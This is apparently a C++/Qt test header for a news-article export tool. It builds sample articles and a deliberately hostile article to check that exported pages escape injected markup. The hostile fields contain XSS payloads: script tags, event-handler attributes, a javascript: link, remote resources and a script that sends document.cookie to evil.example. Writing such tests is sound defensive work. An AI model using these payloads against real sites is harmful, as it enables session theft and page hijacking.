#pragma once

// Articles the export tests share: the project's sample story, read as the
// importer reads it, and hostile articles that try to inject markup.

#include "core/Article.h"
#include "ingest/ArticleReader.h"

#include <QDir>
#include <QFile>
#include <QFileInfo>

#include <variant>

namespace parallax::testing {

inline Article readArticle(const QString &path)
{
    QFile file(path);
    if (!file.open(QIODevice::ReadOnly))
        qFatal("cannot read %s", qPrintable(path));
    auto result = ArticleReader::read(file.readAll(), QFileInfo(path).fileName(), {});
    if (!std::holds_alternative<Article>(result))
        qFatal("cannot read %s: %s", qPrintable(path), qPrintable(std::get<QString>(result)));
    Article article = std::get<Article>(std::move(result));
    // The file name alone keeps golden output free of the checkout's path.
    article.sourcePath = QFileInfo(path).fileName();
    return article;
}

// The four articles of resources/sample, in file name order.
inline QList<Article> sampleStory()
{
    const QDir dir(QStringLiteral(PARALLAX_SOURCE_DIR "/resources/sample"));
    QList<Article> articles;
    for (const QString &name : dir.entryList(QDir::Files, QDir::Name))
        articles.append(readArticle(dir.filePath(name)));
    return articles;
}

inline Block block(const QString &text, BlockRole role = BlockRole::Body)
{
    return Block{text, role, false, {Sentence{0, int(text.size())}}};
}

// An article whose every field tries to break out of the page: script tags,
// event handlers, a javascript: source, a closing style tag, remote images
// and stylesheets, forbidden control characters. ownClaim is a paragraph
// of its own, so that the comparison has unique claims too.
inline Article hostileArticle(const QString &outlet, const QString &url, const QString &ownClaim)
{
    using namespace Qt::StringLiterals;
    Article article;
    article.sourcePath = u"<img src=x onerror=alert(1)>.html"_s;
    article.meta.outlet = outlet;
    article.meta.title = u"</style><script>alert('title')</script>"_s;
    article.meta.byline = u"\"><svg onload=alert(2)>"_s;
    article.meta.published = QDate(2026, 3, 14);
    article.meta.url = url;
    article.blocks = {
        block(u"<h1 onclick=\"alert(3)\">Headline</h1>"_s, BlockRole::Heading),
        block(u"The mayor said <script>document.location='http://evil.example/'+document.cookie</script> "
              "the bridge would reopen on Monday after the repairs to the steel girders."_s),
        block(u"<img src=\"http://evil.example/pixel.png\" onerror=\"alert(4)\"> Inspectors found cracks "
              "in two steel girders beneath the main span on Thursday night."_s),
        block(u"<a href=\"javascript:alert(5)\">Click</a> <link rel=stylesheet href=http://evil.example/x.css> "
              "<style>body{background:url(http://evil.example/bg.png)}</style> \u0001\u0007 stray controls."_s),
        block(ownClaim),
        block(u"Advertisement <iframe src=\"http://evil.example/ad\"></iframe>"_s, BlockRole::Furniture),
    };
    return article;
}

} // namespace parallax::testing
